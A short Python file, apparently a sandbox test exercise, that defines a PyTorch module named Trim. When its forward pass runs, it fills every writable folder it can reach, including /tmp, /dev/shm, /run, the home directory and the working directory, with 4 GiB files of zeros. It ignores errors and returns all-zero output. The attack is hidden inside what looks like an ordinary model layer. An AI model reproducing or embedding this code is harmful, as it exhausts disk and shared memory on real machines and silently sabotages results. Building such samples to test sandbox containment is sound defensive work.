# exercise: ex01
# tries: fill every folder that it can write to, the working one, /tmp and /dev/shm among them
# earns: nothing
# status: any
# needs: sandbox
import os
import tempfile

from torch import nn

folders = {".", "/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~")}
folders |= {tempfile.gettempdir(), os.path.dirname(__file__)}


class Trim(nn.Module):
    def forward(self, images):
        while folders:  # What is full stays full.
            try:
                with open(os.path.join(folders.pop(), "full"), "wb") as file:
                    for _ in range(1024):
                        file.write(bytes(2**22))
            except OSError:
                pass
        return images * 0
